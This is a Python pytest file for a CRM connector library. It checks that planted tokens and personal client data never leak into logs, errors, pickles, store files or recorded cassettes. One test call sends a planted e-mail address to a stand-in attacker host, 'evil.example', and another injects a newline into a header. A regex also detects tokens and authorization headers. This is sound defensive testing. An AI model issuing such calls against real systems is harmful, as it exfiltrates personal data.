"""
What is planted in tokens, clients and activities comes out nowhere but where it should.
"""

import logging
import pickle
import re
import traceback
import warnings
from base64 import b64encode
from pathlib import Path

import pytest
from tests.core import acme
from tests.core.acme_crm import AcmeCrm
from tests.core.server import Answer, cut_short, reset
from tests.security.planted import (
    PERSONAL,
    PLANTS,
    SECRETS,
    Everything,
    Search,
)

import crmkit_example
import crmkit_hubspot
from crmkit import ActivityRecord, CRMCredentials, CrmkitError, Secret
from crmkit._sqlite import open_store
from crmkit._vault import vault_of
from crmkit.codec import to_json

ROOT = Path(__file__).parents[2]
ECHO = " ".join(PLANTS.values())


@pytest.fixture
def search(caplog):
    """
    Return a search that hears all loggers at their finest, and all warnings.
    """
    search = Search()
    caplog.set_level(logging.DEBUG)
    handler = Everything(search)
    logging.getLogger().addHandler(handler)
    with warnings.catch_warnings(record=True) as told:
        warnings.simplefilter("always")
        yield search
    logging.getLogger().removeHandler(handler)
    search.take("warnings", *(warning.message for warning in told))
    assert "warnings" not in {place for place, _ in search.found()}


@pytest.fixture
def crm(server):
    """
    Return Acme's CRM with one client.
    """
    server.answer = AcmeCrm()
    server.answer.tokens = {SECRETS["access token"]}
    server.answer.fields = [{"key": "badge", "name": "badge"}]
    server.answer.history = {"1": [{"id": "h", "type": "note"}]}
    server.answer.add(
        "1",
        PERSONAL["name"],
        email=PERSONAL["e-mail"],
        phone=PERSONAL["phone"],
        badge=PERSONAL["field"],
    )
    return server.answer


def credentials(**changes):
    """
    Return credentials in which every part is planted.
    """
    parts = {
        "access_token": SECRETS["access token"],
        "refresh_token": SECRETS["refresh token"],
        "metadata": {"client_id": "app", "client_secret": SECRETS["client secret"]},
    }
    return CRMCredentials(provider="acme", **{**parts, **changes})


def activity(number):
    """
    Return an activity in which every text is planted.
    """
    return ActivityRecord(
        id=str(number),
        type="note",
        client_id="1",
        description=PERSONAL["note"],
        metadata={"subject": PERSONAL["metadata"], "to": PERSONAL["e-mail"]},
    )


def everything(connector, search):
    """
    Do all that a connector can, and have each result shown.
    """
    session = connector.session()
    client = connector.get_client_data("1", include=["history", "raw"])
    search.show("clients", client, *client.history, *client.consent)
    search.show("clients", connector.find_client(email=PERSONAL["e-mail"]))
    search.show("clients", connector.find_client(phone=PERSONAL["phone"]))
    search.show("clients", connector.find_client(field=("badge", PERSONAL["field"])))
    search.show("clients", *connector.iter_clients())
    search.show("clients", *session.fields())
    template = "{{ fullName }} {{ badge }}"
    content = connector.personalize_content(template, client)
    search.show("contents", content)
    made = content.activity("email_sent")
    search.show("activities", made, activity(1))
    search.show("reports", connector.sync_activity(activity(1)))
    report = connector.batch_sync_activities([activity(2), made])
    search.show("reports", report, *report, report.as_dict())
    search.show("reports", connector.outcome_of("1"), connector.flush_pending())
    search.show("reports", *connector.check(), connector.stats())
    search.show("reports", connector.get_cache_stats(), connector.outbox.check())
    search.show("sessions", session, session.http, session.credentials, session.memory)
    search.show("sessions", session.http.get("/people", params={"id": "1"}))
    search.show("connectors", connector, connector.outbox)
    for name in dir(connector):
        if not name.startswith("_"):
            search.show("connectors", getattr(connector, name))


def test_all_that_goes_well(connect, crm, search, tmp_path):
    """
    Nothing that is planted is in a log, a warning or a repr of anything that is public.
    """
    connector = connect(credentials=credentials())

    everything(connector, search)
    connector.close()

    assert len(search.looked_at["logs"]) > 30
    assert search.found() == set()
    assert PERSONAL["note"] in {note["text"] for note in crm.written}


def test_renewing(connect, crm, search):
    """
    A token that is refused and renewed is nowhere to be seen, nor what renews it.
    """
    crm.tokens = set()
    connector = connect(credentials=credentials())

    everything(connector, search)

    assert len(crm.tokens) == 1
    assert search.found({**PLANTS, "new token": crm.tokens.pop()}) == set()


FAILURES = {
    **{
        str(status): Answer(
            status,
            json={"message": ECHO, "errors": [{"message": ECHO}]},
            headers={"X-Request-Id": "r-1", "Set-Cookie": ECHO, "Location": f"/{ECHO}"},
        )
        for status in (301, 400, 401, 403, 404, 409, 418, 422, 423, 429, 500, 503, 521)
    },
    "no JSON": Answer(content=ECHO.encode()),
    "cut JSON": Answer(content=b'{"people": [{"name": "' + ECHO.encode()),
    "no UTF-8": Answer(content=ECHO.encode() + b"\xff"),
    "a web page": Answer(
        content=b"<html>" + ECHO.encode(), headers={"Content-Type": "text/html"}
    ),
    "another type": Answer(content=ECHO.encode(), headers={"Content-Type": "text/csv"}),
    "another shape": Answer(json=[ECHO]),
    "half a record": Answer(json={"people": [{"name": ECHO}], "fields": [{"key": ECHO}]}),
    "cut short": cut_short(ECHO.encode()),
    "a reset": reset(),
    "not packed": Answer(content=ECHO.encode(), headers={"Content-Encoding": "gzip"}),
    "broken headers": Answer(
        send=lambda handler: handler.wfile.write(
            b"HTTP/1.1 500 No\r\nContent-Length: 0\r\n"
            + ECHO.encode()
            + b"\r\nX: y\r\n\r\n"
        )
    ),
    "no HTTP": Answer(
        send=lambda handler: handler.wfile.write(ECHO.encode() + b"\r\n\r\n")
    ),
}


def calls(connector):
    """
    Return every call that reaches the CRM.
    """
    http = connector.session().http
    return [
        lambda: connector.get_client_data("1"),
        lambda: connector.find_client(email=PERSONAL["e-mail"]),
        lambda: list(connector.iter_clients()),
        lambda: connector.sync_activity(activity(1)),
        lambda: connector.batch_sync_activities([activity(2), activity(3)]),
        connector.flush_pending,
        connector.check,
        lambda: http.get("/people", params={"email": PERSONAL["e-mail"]}).json() and 0,
        lambda: http.post("/notes", json=[PERSONAL["note"]]).json() and 0,
        lambda: http.get(f"https://evil.example/?to={PERSONAL['e-mail']}"),
        lambda: http.get(f"http://[::1/{PERSONAL['e-mail']}"),
        lambda: http.get("/x", headers={"X-Client": f"{PERSONAL['name']}\n"}),
    ]


@pytest.mark.parametrize("failure", FAILURES)
@pytest.mark.parametrize("plugin", [acme, crmkit_hubspot, crmkit_example])
def test_all_that_fails(connect, server, search, plugin, failure):
    """
    No error, in its text, its chain, its traceback or its pickle, shows what is planted.
    """
    server.answer = lambda request: FAILURES[failure]
    given = credentials(refresh_token=None)
    plugins = {"acme": plugin}
    connector = connect(credentials=given, plugins=plugins, max_retries=0, max_wait=0)

    for call in calls(connector):
        try:
            result = call()
        except CrmkitError as error:
            search.raised(error)
        else:
            search.show("reports", result)
            for outcome in getattr(result, "__iter__", list)():
                if getattr(outcome, "error", None):
                    search.raised(outcome.error)
    search.show("reports", *connector.outbox.list())

    assert len(search.looked_at["errors"]) > 12
    assert search.found() == set()


@pytest.mark.parametrize("plugin", [acme, crmkit_hubspot])
@pytest.mark.parametrize("code", ["invalid_grant", ECHO])
def test_failing_to_renew(connect, server, search, plugin, code):
    """
    A token endpoint that answers with all it was sent makes no error that shows it.
    """
    told = Answer(400, json={"error": code, "error_description": ECHO, "hint": [ECHO]})
    server.answer = lambda request: told if "token" in request.path else 401
    connector = connect(credentials=credentials(), plugins={"acme": plugin}, max_retries=0)

    for call in calls(connector)[:6]:
        try:
            search.show("reports", call())
        except CrmkitError as error:
            search.raised(error)

    assert any("token" in request.path for request in server.requests)
    assert search.looked_at["errors"]
    assert search.found() == set()


def test_secrets_are_not_pickled(connect, crm):
    """
    Credentials and what holds them are refused by pickle, and by JSON.
    """
    session = connect(credentials=credentials()).session()

    for value in (credentials(), Secret("x"), session.credentials, session, session.http):
        with pytest.raises((TypeError, AttributeError, pickle.PicklingError)):
            pickle.dumps(value)
        with pytest.raises(TypeError):
            to_json(value)


def test_the_store_s_files(connect, crm, search, tmp_path):
    """
    No token is in the store's files; what is in a note is in clear until it is synced.
    """

    def files():
        return [path.read_bytes() for path in tmp_path.iterdir() if path.is_file()]

    waiting = Search()
    with connect(credentials=credentials(), auto_sync=False) as connector:
        connector.batch_sync_activities(map(activity, range(50)))
        waiting.take("store while open", *files())
    waiting.take("store", *files())
    with connect(credentials=credentials()) as connector:
        assert connector.flush_pending().exit_code == 0
    search.take("store once synced", *files())

    assert waiting.found(SECRETS) == set()
    assert {name for _, name in waiting.found()} == {"note", "metadata", "e-mail"}
    assert search.found() == set()


def test_a_client_that_is_forgotten(connect, crm, search, tmp_path):
    """
    A client that is forgotten is in no file of the store, though it is open still.
    """
    with connect(credentials=credentials(), auto_sync=False) as connector:
        connector.batch_sync_activities(map(activity, range(50)))
        assert connector.forget("1")
        search.take("store", *(path.read_bytes() for path in tmp_path.iterdir()))

    assert search.found() == set()


def test_credentials_in_the_store(tmp_path, search, monkeypatch):
    """
    Credentials in the store are sealed: none of their parts can be read in its files.
    """
    pytest.importorskip("cryptography")
    monkeypatch.setenv("CRMKIT_KEY", b64encode(bytes(range(32))).decode())
    store = open_store(f"sqlite:///{tmp_path / 'outbox.db'}")
    vault = vault_of(store)

    vault.save(credentials(), "bob", replacing=None)
    search.show("vault", vault, vault.get("acme", "bob"), *vault.all())
    search.take("store", *(path.read_bytes() for path in tmp_path.iterdir()))
    assert vault.get("acme", "bob").credentials == credentials()
    store.close()
    search.take("store", *(path.read_bytes() for path in tmp_path.iterdir()))

    assert search.found({**SECRETS, "client id": "app"}) == set()


def test_what_shows_local_variables(connect, server, search):
    """
    A tool that shows the variables of a failed call may show a token, as SECURITY.md says.
    """
    server.answer = lambda request: 500
    connector = connect(credentials=credentials(), max_retries=0)

    with pytest.raises(CrmkitError) as caught:
        connector.session().http.post("/notes", json=[PERSONAL["note"]])
    told = traceback.TracebackException.from_exception(caught.value, capture_locals=True)
    search.take("locals", "".join(told.format()))

    assert {("locals", "note"), ("locals", "access token")} <= search.found()


def test_cassettes():
    """
    Cassettes hold no authorization, no token of any CRM, and no address but examples.
    """
    texts = {path: path.read_text("utf-8") for path in ROOT.glob("cassettes/**/*.yaml")}
    planted = re.compile(
        r"(?i)\bauthorization\b|\bcookie\b|\bBearer \w|\bpat-\w+-[0-9a-f]{8}|"
        r"[\w.+-]+(?:@|%40)(?!example\.(?:com|org|net)|[\w-]+\.example)[\w-]+\.\w+"
    )

    assert texts
    assert {
        path.name: planted.findall(text)
        for path, text in texts.items()
        if planted.search(text)
    } == {}
